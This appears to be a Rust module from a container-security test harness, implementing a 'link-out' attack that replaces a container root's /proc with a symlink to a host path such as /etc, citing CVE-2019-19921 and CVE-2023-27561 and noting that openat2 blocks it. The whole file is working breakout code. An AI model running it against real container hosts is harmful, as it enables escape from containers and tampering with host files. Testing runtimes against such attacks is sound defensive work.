//! Poisons a root directory for the next container: its /proc becomes a link
//! to a place outside, and a runtime that follows it mounts there.

use std::fs::remove_dir;
use std::os::unix::fs::symlink;
use std::path::Path;

use crate::attack::{
    Argument, Arguments, Attack, OrStopped, Outcome, StoppedBy, Try,
};

pub const ATTACK: Attack = Attack {
    name: "link-out",
    tries: "make /proc a link to a place outside, for the next container",
    stopped: StoppedBy::Step(4),
    rule: "openat2 refuses the link (RESOLVE_IN_ROOT, RESOLVE_NO_SYMLINKS)",
    source: "CVE-2019-19921, CVE-2023-27561, openat2(2)",
    arguments: &[
        Argument::new("ROOT", "/", "the root directory"),
        Argument::new("NAME", "proc", "what becomes a link: proc, dev or sys"),
        Argument::new("OUTSIDE", "/etc", "where it leads, on the host"),
    ],
    run,
};

fn run(arguments: &Arguments) -> Try {
    let link = Path::new(arguments.text("ROOT")?).join(arguments.text("NAME")?);
    let outside = arguments.text("OUTSIDE")?;
    remove_dir(&link).or_stopped(format!("rmdir({link:?})"))?;
    symlink(outside, &link)
        .or_stopped(format!("symlink({outside:?}, {link:?})"))?;
    Ok(Outcome::Done(format!(
        "{} -> {outside}. Look outside: does the next container mount there?",
        link.display()
    )))
}
